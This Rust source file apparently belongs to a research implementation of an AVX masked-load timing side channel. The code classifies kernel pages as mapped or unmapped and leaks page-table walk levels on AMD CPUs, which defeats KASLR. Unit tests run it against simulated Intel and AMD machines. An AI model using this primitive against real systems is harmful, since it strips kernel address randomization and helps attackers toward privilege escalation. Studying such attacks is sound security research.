//! The page-table attack primitive (P2/P3).
//!
//! Distinguishes present from non-present pages through masked-op
//! latency (P2) and, on CPUs where the P-bit is invisible (AMD), leaks
//! the page-table level at which the walk terminates (P3).

use avx_mmu::VirtAddr;
use avx_uarch::OpKind;

use crate::adaptive::{AdaptiveBatch, AdaptiveMinFilter, AdaptiveSampler, AdaptiveScratch};
use crate::calibrate::Threshold;
use crate::prober::{ProbeScratch, ProbeStrategy, Prober};
use crate::recal::{RecalConfig, Recalibrating, RecalibratingMinFilter};
use crate::stats::two_means_threshold;
use crate::sweep::TileSource;

/// One classified sweep over a candidate set: the raw series, the
/// per-candidate verdicts and the probe budget it actually consumed.
#[derive(Clone, Debug)]
pub struct SweepClassification {
    /// Representative latency per candidate (raw measurement on the
    /// fixed path, spike-filtered floor on the adaptive path).
    pub samples: Vec<u64>,
    /// Mapped/unmapped verdict per candidate.
    pub mapped: Vec<bool>,
    /// Raw probes issued across the sweep, warm-ups included.
    pub probes: u64,
    /// In-scan recalibrations the closed loop performed (always 0 on
    /// the open-loop paths; see [`crate::recal::Recalibrating`]).
    pub refits: u32,
}

impl SweepClassification {
    /// Mean probes per candidate (0 for an empty sweep).
    #[must_use]
    pub fn probes_per_address(&self) -> f64 {
        if self.mapped.is_empty() {
            0.0
        } else {
            self.probes as f64 / self.mapped.len() as f64
        }
    }
}

/// P2: mapped/unmapped classification of arbitrary (incl. kernel) pages.
#[derive(Clone, Copy, Debug)]
pub struct PageTableAttack {
    /// Decision threshold.
    pub threshold: Threshold,
    /// Measurement composition (paper default: probe twice, keep 2nd).
    pub strategy: ProbeStrategy,
    /// Which op to time (loads by default; stores are ~17 cycles faster
    /// and equally usable, P6).
    pub op: OpKind,
    /// When set, [`PageTableAttack::sweep`] routes through the
    /// SPRT-based early-stopping engine instead of the fixed strategy.
    pub sampler: Option<AdaptiveSampler>,
    /// When set, sweeps run under the closed-loop recalibration driver
    /// ([`crate::recal::Recalibrating`]): a drift monitor watches the
    /// stream and re-fits threshold + σ mid-scan when the environment
    /// shifts. `None` (the default) is the one-shot-calibration paper
    /// methodology, bit-exact with the pre-recalibration engine.
    pub recal: Option<RecalConfig>,
}

impl PageTableAttack {
    /// A paper-default attack instance for a calibrated threshold.
    #[must_use]
    pub fn new(threshold: Threshold) -> Self {
        Self {
            threshold,
            strategy: ProbeStrategy::SecondOfTwo,
            op: OpKind::Load,
            sampler: None,
            recal: None,
        }
    }

    /// Switches the sweep path to adaptive sequential sampling.
    #[must_use]
    pub fn with_adaptive(mut self, sampler: AdaptiveSampler) -> Self {
        self.sampler = Some(sampler);
        self
    }

    /// Switches sweeps to the closed-loop recalibration driver.
    #[must_use]
    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
        self.recal = Some(config);
        self
    }

    /// Times one candidate page.
    pub fn measure<P: Prober + ?Sized>(&self, p: &mut P, addr: VirtAddr) -> u64 {
        self.strategy.measure(p, self.op, addr)
    }

    /// `true` if the candidate classifies as mapped.
    pub fn is_mapped<P: Prober + ?Sized>(&self, p: &mut P, addr: VirtAddr) -> bool {
        self.threshold.is_mapped(self.measure(p, addr))
    }

    /// Measures *and* classifies `candidates` (a slice or an
    /// [`crate::AddrRange`]) through whichever sampling engine is
    /// configured — the one entry point every sweep-shaped attack
    /// (Fig. 4/5, KPTI, Windows, cloud) routes through. Runs the
    /// [`Recalibrating`] driver this attack describes, open-loop unless
    /// [`PageTableAttack::recal`] is set.
    ///
    /// Fixed path: the full per-address strategy budget, verdicts from
    /// the threshold. Adaptive path: [`AdaptiveSampler`] stops probing
    /// each address as soon as its classification is statistically
    /// settled.
    pub fn sweep<P: Prober + ?Sized, C: TileSource + ?Sized>(
        &self,
        p: &mut P,
        candidates: &C,
    ) -> SweepClassification {
        self.sweep_in(p, candidates, &mut TileScratch::default())
    }

    /// [`PageTableAttack::sweep`] on caller-kept tile buffers: the
    /// driver borrows `scratch` for the sweep and hands it back, so a
    /// trial's sweeps and confirmation re-visits grow one set of
    /// buffers. The scratch carries nothing from one tile to the next,
    /// so the result is the same for any scratch.
    pub(crate) fn sweep_in<P: Prober + ?Sized, C: TileSource + ?Sized>(
        &self,
        p: &mut P,
        candidates: &C,
        scratch: &mut TileScratch,
    ) -> SweepClassification {
        let mut driver = Recalibrating::for_attack(*self).with_scratch(core::mem::take(scratch));
        let sweep = driver.sweep(p, candidates);
        *scratch = driver.into_scratch();
        sweep
    }

    /// Classifies one tile with the current fit into `s.batch` (cleared
    /// first), through whichever sampling engine the attack carries;
    /// returns the raw probes spent. The one per-tile mapped/unmapped
    /// classifier: the [`Recalibrating`] driver's sweep tiles and its
    /// rescan tiles both run through it.
    pub(crate) fn classify_tile<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        tile: &[VirtAddr],
        s: &mut TileScratch,
    ) -> u64 {
        let TileScratch {
            batch,
            adaptive,
            fixed,
        } = s;
        batch.clear();
        match self.sampler {
            Some(sampler) => {
                sampler.classify_tile(p, self.op, tile, batch, adaptive);
                batch.total_probes()
            }
            None => {
                let strategy = self.strategy;
                strategy.measure_batch_into(p, self.op, tile, &mut batch.samples, fixed);
                let threshold = self.threshold;
                batch
                    .mapped
                    .extend(batch.samples.iter().map(|&s| threshold.is_mapped(s)));
                batch.settled.resize(tile.len(), true);
                tile.len() as u64 * u64::from(strategy.probes_per_measurement())
            }
        }
    }
}

/// The reused buffers of the per-tile classifier behind every
/// [`PageTableAttack`] sweep and confirmation re-visit. Each tile
/// clears them first, so they carry no state from one tile or call to
/// the next; a caller that keeps one ([`PageTableAttack::sweep_in`],
/// [`crate::Confirmer::confirm_mapped_in`], a campaign's
/// [`crate::attacks::campaign::TrialState`]) makes its sweeps
/// allocation-free once the buffers have grown.
#[derive(Clone, Debug, Default)]
pub(crate) struct TileScratch {
    /// The last tile's calls, samples, probe counts and settled flags.
    pub(crate) batch: AdaptiveBatch,
    /// Intermediate state of the adaptive sampler.
    adaptive: AdaptiveScratch,
    /// Intermediate state of the fixed probe strategy.
    fixed: ProbeScratch,
}

/// P3: walk-termination-level leakage, the signal used against AMD
/// (§IV-B) where P2 is unavailable.
#[derive(Clone, Copy, Debug)]
pub struct LevelAttack {
    /// Probes per candidate (minimum taken; spikes only add latency).
    pub repeats: u8,
    /// When set, the min-filter stops early once a candidate's floor
    /// has stabilized instead of always spending the full width.
    pub early_stop: Option<AdaptiveMinFilter>,
    /// When set (together with `early_stop`), range sweeps run under
    /// the closed-loop [`crate::recal::RecalibratingMinFilter`]: a
    /// dispersion shift of the latency floors escalates the min-filter
    /// budget mid-scan. `None` (the default) is the open-loop path.
    pub recal: Option<RecalConfig>,
}

impl Default for LevelAttack {
    fn default() -> Self {
        Self {
            repeats: 6,
            early_stop: None,
            recal: None,
        }
    }
}

impl LevelAttack {
    /// Switches the sweep to the early-stopping min-filter.
    #[must_use]
    pub fn with_early_stop(mut self, filter: AdaptiveMinFilter) -> Self {
        self.early_stop = Some(filter);
        self
    }

    /// Switches range sweeps to the closed-loop escalating min-filter
    /// (implies the early-stopping filter; a default one is installed
    /// if none was configured).
    #[must_use]
    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
        if self.early_stop.is_none() {
            self.early_stop = Some(AdaptiveMinFilter::default());
        }
        self.recal = Some(config);
        self
    }

    /// Measures every candidate (a slice or an [`crate::AddrRange`])
    /// with a min-filter through the batched probe pipeline; returns
    /// the floors and the raw probe count the sweep consumed. With
    /// [`LevelAttack::recal`] (and the early-stopping filter) set, the
    /// sweep runs under the closed-loop [`RecalibratingMinFilter`].
    pub fn measure<P: Prober + ?Sized, C: TileSource + ?Sized>(
        &self,
        p: &mut P,
        candidates: &C,
    ) -> (Vec<u64>, u64) {
        match (self.early_stop, self.recal) {
            (Some(filter), Some(config)) => {
                RecalibratingMinFilter::new(filter, config).measure_range(p, candidates)
            }
            (Some(filter), None) => {
                let batch = filter.measure(p, OpKind::Load, candidates);
                let probes = batch.total_probes();
                (batch.mins, probes)
            }
            (None, _) => {
                let strategy = ProbeStrategy::MinOf(self.repeats);
                let mut out = Vec::with_capacity(candidates.candidate_count());
                let mut scratch = ProbeScratch::default();
                candidates.for_each_tile(|tile| {
                    strategy.measure_batch_into(p, OpKind::Load, tile, &mut out, &mut scratch);
                });
                let probes = candidates.candidate_count() as u64
                    * u64::from(strategy.probes_per_measurement());
                (out, probes)
            }
        }
    }

    /// Finds the slow outliers of a series — candidates whose walks
    /// terminate deeper (PT) than the surrounding baseline (PD).
    ///
    /// Returns indices of outliers, or an empty vector when the series
    /// is unimodal (no PT-mapped candidates in range).
    #[must_use]
    pub fn outliers(&self, samples: &[u64]) -> Vec<usize> {
        let Some(split) = two_means_threshold(samples) else {
            return Vec::new();
        };
        // Require a real gap: at least 10 cycles between cluster means,
        // otherwise the split is noise.
        let slow: Vec<usize> = samples
            .iter()
            .enumerate()
            .filter(|(_, &s)| (s as f64) > split)
            .map(|(i, _)| i)
            .collect();
        if slow.is_empty() || slow.len() == samples.len() {
            return Vec::new();
        }
        let fast_max = samples
            .iter()
            .filter(|&&s| (s as f64) <= split)
            .max()
            .copied()
            .unwrap_or(0);
        let slow_min = slow.iter().map(|&i| samples[i]).min().unwrap_or(u64::MAX);
        if slow_min.saturating_sub(fast_max) < 10 {
            return Vec::new();
        }
        slow
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use crate::sweep::AddrRange;
    use avx_os::linux::{LinuxConfig, LinuxSystem, KASLR_ALIGN, KERNEL_TEXT_REGION_START};
    use avx_uarch::{CpuProfile, NoiseModel};

    fn intel_prober(seed: u64) -> (SimProber, avx_os::LinuxTruth) {
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
        m.set_noise(NoiseModel::none());
        (SimProber::new(m), truth)
    }

    #[test]
    fn p2_distinguishes_kernel_mapped_from_unmapped() {
        let (mut p, truth) = intel_prober(1);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = PageTableAttack::new(th);
        assert!(attack.is_mapped(&mut p, truth.kernel_base));
        let hole = VirtAddr::new_truncate(
            truth.kernel_base.as_u64() + (truth.kernel_slots + 3) * KASLR_ALIGN,
        );
        if hole.as_u64() < avx_os::linux::KERNEL_TEXT_REGION_END {
            assert!(!attack.is_mapped(&mut p, hole));
        }
    }

    #[test]
    fn measure_range_produces_series() {
        let (mut p, truth) = intel_prober(2);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = PageTableAttack::new(th);
        let sweep = attack.sweep(
            &mut p,
            &AddrRange::new(
                VirtAddr::new_truncate(KERNEL_TEXT_REGION_START),
                KASLR_ALIGN,
                64,
            ),
        );
        assert_eq!(sweep.samples.len(), 64);
        assert_eq!(sweep.mapped.len(), 64);
    }

    #[test]
    fn p3_finds_pt_outliers_on_amd() {
        let sys = LinuxSystem::build(LinuxConfig {
            fixed_slide: Some(100),
            ..LinuxConfig::seeded(3)
        });
        let (mut m, truth) = sys.into_machine(CpuProfile::zen3_ryzen5_5600x(), 3);
        m.set_noise(NoiseModel::none());
        let mut p = SimProber::new(m);
        let attack = LevelAttack::default();
        let (series, _) = attack.measure(
            &mut p,
            &AddrRange::new(
                VirtAddr::new_truncate(KERNEL_TEXT_REGION_START),
                KASLR_ALIGN,
                512,
            ),
        );
        let outliers = attack.outliers(&series);
        // The five 4 KiB-split slots stand out at their in-image offsets
        // (slots 8, 9, 10, 18, 19 relative to the slide of 100).
        let expected: Vec<usize> = vec![108, 109, 110, 118, 119];
        assert_eq!(outliers, expected);
        let _ = truth;
    }

    #[test]
    fn p3_outliers_empty_on_flat_series() {
        let attack = LevelAttack::default();
        assert!(attack.outliers(&[285; 64]).is_empty());
        assert!(attack.outliers(&[]).is_empty());
        // Small jitter without a real gap: no outliers.
        let jitter: Vec<u64> = (0..64).map(|i| 285 + (i % 3)).collect();
        assert!(attack.outliers(&jitter).is_empty());
    }
}
